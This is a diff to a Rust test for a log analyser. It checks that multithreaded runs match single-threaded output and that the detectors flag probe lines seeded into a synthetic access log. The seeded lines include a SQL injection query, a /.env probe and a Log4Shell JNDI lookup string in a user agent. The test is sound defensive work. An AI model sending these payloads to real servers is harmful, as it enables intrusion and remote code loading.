@@ -3,6 +3,9 @@
 //! one thread gives. Three logs merged (the seven-actor scenario, a quiet
 //! busy API, and a file of bad, error-log and good lines), so that chunks
 //! of several files interleave and bad lines fall between exchanges.
+//! With more than one thread the workers also run the detectors' payload
+//! searches (`detect::inspect`): the log holds probes those searches find,
+//! in targets and in user agents.
 
 use std::{fs, path::Path, process::Command};
 
@@ -43,12 +46,18 @@ fn every_thread_count_gives_what_one_thread_gives() {
     let cases = Path::new(env!("CARGO_MANIFEST_DIR")).join("cases");
     let out = TempDir::new("parallel");
     let mixed = out.path("mixed.log");
-    let good = |ip: &str, s: u32, p: &str, st: u16| {
-        format!("{ip} - - [04/Nov/2026:12:00:{s:02} +0000] \"GET {p} HTTP/1.1\" {st} 0 \"-\" \"curl/8.5.0\"\n")
+    let line = |ip: &str, s: u32, p: &str, st: u16, ua: &str| {
+        format!("{ip} - - [04/Nov/2026:12:00:{s:02} +0000] \"GET {p} HTTP/1.1\" {st} 0 \"-\" \"{ua}\"\n")
     };
+    let good = |ip: &str, s: u32, p: &str, st: u16| line(ip, s, p, st, "curl/8.5.0");
     let mut text = String::new();
     for i in 0..40u32 {
         text.push_str(&good("198.51.100.7", i, &format!("/api/v1/orders/{i}"), 404));
+        if i % 10 == 1 {
+            text.push_str(&good("203.0.113.9", i, "/api/v1/search?q=1%27%20OR%201=1--", 400));
+            text.push_str(&good("203.0.113.9", i, "/.env", 404));
+            text.push_str(&line("203.0.113.10", i, "/api/v1/orders/1", 401, "${jndi:ldap://198.51.100.1/a}"));
+        }
         text.push_str(if i % 3 == 0 { "garbage line\n" } else { "\n" });
         if i % 7 == 0 {
             text.push_str("2026/11/04 12:00:00 [error] 12#0: *1 open() \"/srv/x\" failed (2: No such file)\n");
@@ -63,6 +72,16 @@ fn every_thread_count_gives_what_one_thread_gives() {
     let exchanges = one[0].1.lines().count();
     let findings = one[1].1.lines().count();
     assert!(exchanges > 10_000 && findings > 5, "too little to compare: {exchanges} exchanges, {findings} findings");
+    for (detector, place) in [
+        ("sensitive-file-probe", "tried /.env"),
+        ("injection-probe", "in its target"),
+        ("injection-probe", "in its user_agent"),
+    ] {
+        assert!(
+            one[1].1.lines().any(|f| f.contains(&format!("\"detector\":\"{detector}\"")) && f.contains(place)),
+            "no {detector} finding in {place}: the workers' searches would go untested"
+        );
+    }
     for threads in [2, 4] {
         for ((name, a), (_, b)) in one.iter().zip(outputs(&inputs, &state, &out, threads)) {
             // Compared as lines, so that a difference names its place.
